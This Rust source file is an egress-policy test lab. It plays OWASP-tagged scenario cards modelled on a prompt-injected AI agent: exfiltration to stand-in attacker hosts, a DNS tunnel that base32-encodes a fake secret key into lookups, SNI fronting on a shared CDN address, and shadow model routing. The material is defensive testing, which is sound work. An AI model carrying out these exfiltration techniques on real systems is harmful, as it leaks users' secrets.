//! The containment lab: the attacks a prompt-injected agent would try,
//! played as scenario cards against the `AgentCore` reference pack
//! (`policies/agentcore/`), first in monitor mode, then promoted to
//! enforce. The internet hosts serve real TLS (`openssl s_server`) and the
//! workload reaches them with a real client (curl). Each card records what
//! happened on the wire, the verdict the agent reported, its flow-log
//! record and the counter that moved.
//! `cargo xtask demo` prints the report and writes it as HTML
//! ([`super::containment_report`]); a test checks every card.

use std::io;
use std::net::{IpAddr, SocketAddr, UdpSocket};
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use super::agent::{AgentProcess, metric};
use super::dnsmsg::{Message, read_name};
use super::lab::{Lab, WORKLOAD_V4};
use super::netns::within;
use super::resolver::{Resolver, Zone};
use super::tls::{self, Certificate, Server};

/// How long a probe may take (a lookup's answer, a whole HTTPS request).
const TIMEOUT: Duration = Duration::from_millis(1500);
/// The lab's approved resolver, and a foreign one.
pub const RESOLVER: &str = "198.51.100.53";
const FOREIGN_RESOLVER: &str = "198.51.100.99:53";

/// What a card sends.
#[derive(Debug, Clone, Copy)]
pub enum Probe {
    /// Resolve the name through the approved resolver, then HTTPS to that
    /// address on port 443 with curl, naming it (SNI).
    Name(&'static str),
    /// HTTPS with curl straight to an address the workload never resolved
    /// (`https://ADDR:PORT/`: no SNI, the address alone decides).
    Tcp(&'static str),
    /// A DNS query to a resolver that is not approved.
    ForeignDns(&'static str),
    /// A lookup through the approved resolver whose name is the payload.
    Lookup(&'static str),
    /// Resolve the first name through the approved resolver, then HTTPS
    /// with curl to that address naming the second (SNI): another tenant
    /// of a shared front end.
    SharedAddress(&'static str, &'static str),
    /// Lookups through the approved resolver of that many names under the
    /// zone, each a base32 chunk of data (a DNS tunnel through a zone the
    /// pack allows); delivered if the last one was answered.
    ZoneTunnel(&'static str, usize),
}

/// What a card expects in one mode: whether the traffic got through, and
/// the verdict (`allowed`, `would_deny`, `denied`, `would_refuse`, `refused`).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Expect {
    pub delivered: bool,
    pub verdict: &'static str,
}

/// One scenario.
#[derive(Debug, Clone, Copy)]
pub struct Card {
    pub id: &'static str,
    /// The OWASP Top 10 for LLM Applications entry, or `None` for
    /// legitimate traffic that must keep working.
    pub owasp: Option<&'static str>,
    pub title: &'static str,
    pub attack: &'static str,
    pub probe: Probe,
    /// What closes it (or lets it through).
    pub rule: &'static str,
    pub monitor: Expect,
    pub enforce: Expect,
}

const fn ex(delivered: bool, verdict: &'static str) -> Expect {
    Expect { delivered, verdict }
}

/// The cards, in play order.
pub const CARDS: &[Card] = &[
    Card {
        id: "ok-model",
        owasp: None,
        title: "call the sanctioned model provider",
        attack: "resolve api.openai.com, HTTPS to it",
        probe: Probe::Name("api.openai.com"),
        rule: "allow-sanctioned-models",
        monitor: ex(true, "allowed"),
        enforce: ex(true, "allowed"),
    },
    Card {
        id: "ok-aws",
        owasp: None,
        title: "use the AWS control plane",
        attack: "resolve sts.amazonaws.com, HTTPS to it",
        probe: Probe::Name("sts.amazonaws.com"),
        rule: "allow-aws-control-plane",
        monitor: ex(true, "allowed"),
        enforce: ex(true, "allowed"),
    },
    Card {
        id: "ok-tool",
        owasp: None,
        title: "call a sanctioned tool",
        attack: "resolve tools.sanctioned.example, HTTPS to it",
        probe: Probe::Name("tools.sanctioned.example"),
        rule: "allow-sanctioned-tools",
        monitor: ex(true, "allowed"),
        enforce: ex(true, "allowed"),
    },
    Card {
        id: "ok-mcp",
        owasp: None,
        title: "use a sanctioned MCP server",
        attack: "resolve mcp.sanctioned.example, HTTPS to it",
        probe: Probe::Name("mcp.sanctioned.example"),
        rule: "allow-sanctioned-mcp",
        monitor: ex(true, "allowed"),
        enforce: ex(true, "allowed"),
    },
    Card {
        id: "llm01-exfil",
        owasp: Some("LLM01 Prompt Injection"),
        title: "tool-abuse exfiltration to an unsanctioned host",
        attack: "an injected instruction makes a tool POST the conversation to 203.0.113.66",
        probe: Probe::Tcp("203.0.113.66:443"),
        rule: "default-deny",
        monitor: ex(true, "would_deny"),
        enforce: ex(false, "denied"),
    },
    Card {
        id: "llm02-foreign-dns",
        owasp: Some("LLM02 Sensitive Information Disclosure"),
        title: "DNS-tunnelled exfiltration to a foreign resolver",
        attack: "secrets encoded in queries sent straight to 198.51.100.99:53",
        probe: Probe::ForeignDns("c2VjcmV0.x.attacker.example"),
        rule: "deny-dns-exfil",
        monitor: ex(true, "would_deny"),
        enforce: ex(false, "denied"),
    },
    Card {
        id: "llm02-shared-cdn",
        owasp: Some("LLM02 Sensitive Information Disclosure"),
        title: "exfiltration to an attacker's tenant on a sanctioned CDN's address",
        attack: "an injected instruction (LLM01) resolves api.openai.com, then TLS to that address with SNI attacker-tenant.example",
        probe: Probe::SharedAddress("api.openai.com", "attacker-tenant.example"),
        rule: "default-deny",
        monitor: ex(true, "would_deny"),
        enforce: ex(false, "denied"),
    },
    Card {
        id: "llm02-dns-tunnel",
        owasp: Some("LLM02 Sensitive Information Disclosure"),
        title: "DNS-tunnelled exfiltration through the approved resolver",
        attack: "secrets encoded in the name of a lookup the approved resolver would forward",
        probe: Probe::Lookup("c2VjcmV0LWtleQ.t.attacker.example"),
        rule: "dns.query_filter",
        monitor: ex(true, "would_refuse"),
        enforce: ex(false, "refused"),
    },
    Card {
        id: "llm02-zone-tunnel",
        owasp: Some("LLM02 Sensitive Information Disclosure"),
        title: "DNS tunnel through a zone the pack allows",
        attack: "secrets base32-encoded into 12 lookups under tunnel.openai.azure.com, which **.openai.azure.com allows",
        probe: Probe::ZoneTunnel("tunnel.openai.azure.com", 12),
        rule: "dns.tunnel_guard",
        monitor: ex(true, "would_refuse"),
        enforce: ex(false, "refused"),
    },
    Card {
        id: "llm05-mcp",
        owasp: Some("LLM05 Supply Chain"),
        title: "pull from a compromised MCP source",
        attack: "the agent is steered to mcp.compromised.example for code and tools",
        probe: Probe::Name("mcp.compromised.example"),
        rule: "default-deny, dns.query_filter",
        monitor: ex(true, "would_deny"),
        enforce: ex(false, "refused"),
    },
    Card {
        id: "llm08-shadow-name",
        owasp: Some("LLM08 Excessive Agency"),
        title: "shadow routing to an unsanctioned model provider",
        attack: "the agent sends prompts to api.shadow-llm.example instead of the sanctioned provider",
        probe: Probe::Name("api.shadow-llm.example"),
        rule: "default-deny, dns.query_filter",
        monitor: ex(true, "would_deny"),
        enforce: ex(false, "refused"),
    },
    Card {
        id: "llm08-shadow-ip",
        owasp: Some("LLM08 Excessive Agency"),
        title: "shadow routing by a hard-coded address",
        attack: "the same provider called by its address, no lookup at all",
        probe: Probe::Tcp("203.0.113.77:443"),
        rule: "default-deny",
        monitor: ex(true, "would_deny"),
        enforce: ex(false, "denied"),
    },
];

/// The lab's zone: what the cards resolve.
fn zone() -> Zone {
    let host = |n: &str, a: &str| (n.to_string(), vec![a.parse().expect("lab address")]);
    Zone {
        hosts: vec![
            host("api.openai.com", "203.0.113.10"),
            host("sts.amazonaws.com", "203.0.113.30"),
            host("tools.sanctioned.example", "203.0.113.20"),
            host("mcp.sanctioned.example", "203.0.113.40"),
            host("mcp.compromised.example", "203.0.113.41"),
            host("api.shadow-llm.example", "203.0.113.77"),
        ],
        cnames: vec![],
        wildcards: vec![
            ("t.attacker.example".into(), "203.0.113.99".parse().expect("lab address")),
            ("tunnel.openai.azure.com".into(), "203.0.113.99".parse().expect("lab address")),
        ],
        ttl: 300,
    }
}

const UPSTREAM: &[&str] = &[
    "203.0.113.10",
    "203.0.113.20",
    "203.0.113.30",
    "203.0.113.40",
    "203.0.113.41",
    "203.0.113.66",
    "203.0.113.77",
    "203.0.113.99",
    RESOLVER,
    "198.51.100.99",
];

/// What a card did in one mode.
#[derive(Debug, Clone)]
pub struct Outcome {
    pub card: Card,
    pub mode: &'static str,
    pub delivered: bool,
    /// The verdict the agent reported (flow log or DNS counters).
    pub verdict: String,
    /// The traffic, in words.
    pub traffic: String,
    /// Its flow-log record, when the verdict came from one.
    pub record: Option<serde_json::Value>,
    /// The counter that moved, and by how much.
    pub counter: Option<(String, u64)>,
}

impl Outcome {
    /// Whether it went as the card says.
    pub fn as_expected(&self) -> bool {
        let want = if self.mode == "monitor" { self.card.monitor } else { self.card.enforce };
        self.delivered == want.delivered && self.verdict == want.verdict
    }
}

/// The whole run.
#[derive(Debug, Clone)]
pub struct Report {
    pub policy: String,
    pub outcomes: Vec<Outcome>,
    pub seconds: f64,
}

impl Report {
    /// Whether every card went as expected in both modes.
    pub fn all_as_expected(&self) -> bool {
        self.outcomes.len() == 2 * CARDS.len() && self.outcomes.iter().all(Outcome::as_expected)
    }
}

/// A DNS lookup (type A) from the workload to `server`: `Ok(Some(addr))`,
/// `Ok(None)` when refused or empty, `Err` when nothing answered.
fn lookup(lab: &Lab, server: SocketAddr, name: &str) -> io::Result<Option<IpAddr>> {
    let query = Message::query(0x5eed, name, 1).to_bytes();
    within(&lab.workload.name, move || -> io::Result<Option<IpAddr>> {
        let sock = UdpSocket::bind("0.0.0.0:0")?;
        sock.set_read_timeout(Some(TIMEOUT))?;
        sock.send_to(&query, server)?;
        let mut buf = [0u8; 1500];
        let (n, _) = sock.recv_from(&mut buf)?;
        Ok(first_a(&buf[..n]))
    })?
}

/// The first A record of an answer with RCODE 0.
fn first_a(msg: &[u8]) -> Option<IpAddr> {
    if msg.len() < 12 || msg[3] & 0x0f != 0 {
        return None;
    }
    let (_, mut at) = read_name(msg, 12)?;
    at += 4;
    for _ in 0..u16::from_be_bytes([msg[6], msg[7]]) {
        (_, at) = read_name(msg, at)?;
        let rtype = u16::from_be_bytes([*msg.get(at)?, *msg.get(at + 1)?]);
        let rdlen = u16::from_be_bytes([*msg.get(at + 8)?, *msg.get(at + 9)?]) as usize;
        let rdata = msg.get(at + 10..at + 10 + rdlen)?;
        if rtype == 1 && rdlen == 4 {
            return Some(IpAddr::from([rdata[0], rdata[1], rdata[2], rdata[3]]));
        }
        at += 10 + rdlen;
    }
    None
}

/// The verdict and counter of a DNS-filter or tunnel-guard card, from the
/// counters' moves.
fn dns_filter_verdict(before: &str, after: &str) -> Option<(String, (String, u64))> {
    let events = [
        ("tunnel_refused", "refused"),
        ("tunnel_suspected", "would_refuse"),
        ("query_refused", "refused"),
        ("query_would_refuse", "would_refuse"),
    ];
    for (event, verdict) in events {
        let series = format!("egress_dns_events_total{{event=\"{event}\"}}");
        let moved = metric(after, &series) - metric(before, &series);
        if moved > 0 {
            return Some((verdict.to_string(), (series, moved)));
        }
    }
    None
}

/// curl from the workload: whether the request got its answer within
/// [`TIMEOUT`].
fn curl_ok(lab: &Lab, args: &[&str]) -> io::Result<bool> {
    Ok(tls::curl(&lab.workload, TIMEOUT, args)?.0 == 0)
}

/// Resolves `name` through the approved resolver, then HTTPS with curl to
/// the address it got, naming `sni` (`--resolve`: curl looks nothing up):
/// whether it got through, the traffic in words, and the address (`None`
/// when the lookup was refused).
fn resolve_then_https(lab: &Lab, name: &str, sni: &str) -> io::Result<(bool, String, Option<IpAddr>)> {
    let resolver = SocketAddr::new(RESOLVER.parse().map_err(io::Error::other)?, 53);
    let Some(addr) = lookup(lab, resolver, name)? else {
        return Ok((false, format!("{name}: lookup refused"), None));
    };
    let ok = curl_ok(lab, &["--resolve", &tls::resolve(sni, addr), &format!("https://{sni}/")])?;
    Ok((ok, format!("{name} → tcp {addr}:443, TLS (SNI {sni})"), Some(addr)))
}

/// Sends `lookups` lookups of base32 chunks under `zone` through the
/// approved resolver, as a DNS tunnel does: whether the last was answered.
fn zone_tunnel(lab: &Lab, zone: &str, lookups: usize) -> io::Result<bool> {
    let resolver = SocketAddr::new(RESOLVER.parse().map_err(io::Error::other)?, 53);
    let secret = b"AKIAEXAMPLESECRETKEY/wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY-0123456789-the-whole-conversation";
    let mut answered = false;
    for i in 0..lookups {
        let bytes: Vec<u8> = secret.iter().cycle().skip(i * 15).take(15).copied().collect();
        let chunk = base32(&bytes);
        answered = lookup(lab, resolver, &format!("{chunk}.{i}.{zone}"))?.is_some();
    }
    Ok(answered)
}

/// RFC 4648 base32, lowercase, without padding (as DNS tunnels encode).
fn base32(bytes: &[u8]) -> String {
    let (mut out, mut acc, mut bits) = (String::new(), 0u32, 0);
    for b in bytes {
        acc = acc << 8 | u32::from(*b);
        bits += 8;
        while bits >= 5 {
            bits -= 5;
            out.push(char::from(b"abcdefghijklmnopqrstuvwxyz234567"[(acc >> bits & 31) as usize]));
        }
    }
    if bits > 0 {
        out.push(char::from(b"abcdefghijklmnopqrstuvwxyz234567"[(acc << (5 - bits) & 31) as usize]));
    }
    out
}

/// The tunnel's traffic in words.
fn tunnel_traffic(zone: &str, lookups: usize) -> String {
    format!("{lookups} lookups of base32 chunks under {zone} via {RESOLVER}")
}

/// The flow whose record tells what became of a probe: its address, port,
/// protocol, and the name it gave when that is what decided.
type ProbedFlow = Option<(String, u16, &'static str, Option<&'static str>)>;

/// Plays `card` once and reads back what the agent reported.
fn play(lab: &Lab, agent: &AgentProcess, card: Card, mode: &'static str) -> io::Result<Outcome> {
    let before = agent.metrics()?;
    let generation = metric(&before, "egress_pack_generation");
    let seen = agent.flow_records().len();
    let me = WORKLOAD_V4.to_string();
    let (delivered, traffic, flow): (bool, String, ProbedFlow) = match card.probe {
        Probe::Name(name) => {
            let (ok, traffic, addr) = resolve_then_https(lab, name, name)?;
            (ok, traffic, addr.map(|a| (a.to_string(), 443, "tcp", None)))
        }
        Probe::SharedAddress(name, sni) => {
            let (ok, traffic, addr) = resolve_then_https(lab, name, sni)?;
            (ok, traffic, addr.map(|a| (a.to_string(), 443, "tcp", Some(sni))))
        }
        Probe::Tcp(to) => {
            let to: SocketAddr = to.parse().map_err(io::Error::other)?;
            let ok = curl_ok(lab, &[&format!("https://{to}/")])?;
            (ok, format!("tcp {to}, TLS (no SNI)"), Some((to.ip().to_string(), to.port(), "tcp", None)))
        }
        Probe::ForeignDns(name) => {
            let to: SocketAddr = FOREIGN_RESOLVER.parse().map_err(io::Error::other)?;
            // The foreign "resolver" echoes: any answer means the query got out.
            let out = lookup(lab, to, name);
            (out.is_ok(), format!("udp {to} query {name}"), Some((to.ip().to_string(), to.port(), "udp", None)))
        }
        Probe::Lookup(name) => {
            let got = lookup(lab, SocketAddr::new(RESOLVER.parse().map_err(io::Error::other)?, 53), name)?;
            (got.is_some(), format!("lookup {name} via {RESOLVER}"), None)
        }
        Probe::ZoneTunnel(zone, lookups) => (zone_tunnel(lab, zone, lookups)?, tunnel_traffic(zone, lookups), None),
    };
    let mut record = None;
    let mut verdict = String::from("no report");
    let mut counter = None;
    if let Some((dst, dport, proto, name)) = &flow {
        // Its own record: among those written since the probe began.
        let deadline = Instant::now() + Duration::from_secs(2);
        while record.is_none() && Instant::now() < deadline {
            record = agent.flow_records().into_iter().skip(seen).find(|v| {
                v["type"] == "flow"
                    && v["src"] == me.as_str()
                    && v["dst"] == dst.as_str()
                    && v["dport"] == *dport
                    && v["proto"] == *proto
                    && v["pack"] == generation
                    && name.is_none_or(|n| v["name"] == n)
            });
            if record.is_none() {
                std::thread::sleep(Duration::from_millis(50));
            }
        }
    }
    let tunnel_record =
        if matches!(card.probe, Probe::ZoneTunnel(..)) { tunnel_record(agent, seen, &me) } else { None };
    // Wait for the counters to show it (scrapes are exact, the flow log is
    // asynchronous).
    let deadline = Instant::now() + Duration::from_secs(2);
    loop {
        let after = agent.metrics()?;
        if let Some(rec) = &record {
            let (rule, v) = (rec["rule"].as_str().unwrap_or("?"), rec["verdict"].as_str().unwrap_or("?"));
            let series = format!("egress_rule_flows_total{{rule=\"{rule}\",verdict=\"{v}\"}}");
            let moved = metric(&after, &series) - metric(&before, &series);
            verdict = v.to_string();
            if moved > 0 || Instant::now() > deadline {
                counter = Some((series, moved));
                break;
            }
        } else if let Some((v, c)) = dns_filter_verdict(&before, &after) {
            verdict = v;
            counter = Some(c);
            break;
        } else if Instant::now() > deadline {
            break;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
    Ok(Outcome { card, mode, delivered, verdict, traffic, record: record.or(tunnel_record), counter })
}

/// The tunnel guard's record of `workload` among those written after the
/// first `seen`, waiting up to 2 s (one per workload, zone and window: the
/// enforce round, in the monitor round's window, has none).
fn tunnel_record(agent: &AgentProcess, seen: usize, workload: &str) -> Option<serde_json::Value> {
    let deadline = Instant::now() + Duration::from_secs(2);
    loop {
        let found = agent
            .flow_records()
            .into_iter()
            .skip(seen)
            .find(|v| v["type"] == "dns_tunnel_suspected" && v["workload"] == workload);
        if found.is_some() || Instant::now() > deadline {
            return found;
        }
        std::thread::sleep(Duration::from_millis(50));
    }
}

/// Copies the pack directory (its policy and list files, symlinks
/// followed) to a scratch place the run may edit.
fn copy_pack(from: &Path, to: &Path) -> io::Result<()> {
    std::fs::create_dir_all(to)?;
    for e in std::fs::read_dir(from)? {
        let e = e?;
        if std::fs::metadata(e.path())?.is_file() {
            std::fs::copy(e.path(), to.join(e.file_name()))?;
        }
    }
    Ok(())
}

/// Promotes the pack to enforce: `mode`, `dns.query_filter` and
/// `dns.tunnel_guard`, in its settings file, written whole (the agent's
/// watcher picks it up).
fn promote(dir: &Path) -> io::Result<()> {
    let path = dir.join("00-settings.yaml");
    let text = std::fs::read_to_string(&path)?
        .replace("\nmode: monitor", "\nmode: enforce")
        .replace("query_filter: monitor", "query_filter: enforce")
        .replace("tunnel_guard: monitor", "tunnel_guard: enforce");
    let tmp = dir.join(".00-settings.yaml.tmp");
    std::fs::write(&tmp, text)?;
    std::fs::rename(tmp, path)
}

/// Runs the lab: the agent `agent_bin` on the pack directory `pack`, every
/// card in monitor mode, then promoted to enforce, every card again.
/// `progress` sees each outcome as it happens.
pub fn run(agent_bin: &Path, pack: &Path, mut progress: impl FnMut(&Outcome)) -> io::Result<Report> {
    let started = Instant::now();
    let lab = Lab::new(UPSTREAM)?;
    // The internet hosts (203.0.113.0/24; the resolvers are in 198.51.100.0/24)
    // serve HTTPS on 443, one server each, with one certificate.
    let certs = std::env::temp_dir().join(format!("egress-containment-tls-{}", std::process::id()));
    std::fs::create_dir_all(&certs)?;
    let cert = Certificate::self_signed(&certs, "egress-lab.example")?;
    let mut servers = UPSTREAM
        .iter()
        .filter(|a| a.starts_with("203.0.113."))
        .map(|a| Server::start(&lab.upstream, a.parse().map_err(io::Error::other)?, &cert))
        .collect::<io::Result<Vec<_>>>()?;
    tls::wait_accepting(&mut servers, &lab.workload, Duration::from_secs(5))?;
    lab.udp_echo(FOREIGN_RESOLVER.parse().map_err(io::Error::other)?)?;
    let _resolver = Resolver::start(&lab, &[RESOLVER.parse().map_err(io::Error::other)?], &zone())?;
    let dir: PathBuf = std::env::temp_dir().join(format!("egress-containment-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    copy_pack(pack, &dir)?;
    let agent = AgentProcess::start_at(&lab, agent_bin, &dir, &[])?;
    let mut outcomes = Vec::new();
    for mode in ["monitor", "enforce"] {
        if mode == "enforce" {
            let before = agent.reloads()?;
            promote(&dir)?;
            let deadline = Instant::now() + Duration::from_secs(5);
            while agent.reloads()? == before {
                if Instant::now() > deadline {
                    return Err(io::Error::other("the promoted pack was not installed within 5 s"));
                }
                std::thread::sleep(Duration::from_millis(50));
            }
        }
        for card in CARDS {
            let outcome = play(&lab, &agent, *card, mode)?;
            progress(&outcome);
            outcomes.push(outcome);
        }
    }
    drop(agent);
    drop(servers);
    let _ = std::fs::remove_dir_all(&dir);
    let _ = std::fs::remove_dir_all(&certs);
    Ok(Report { policy: pack.display().to_string(), outcomes, seconds: started.elapsed().as_secs_f64() })
}
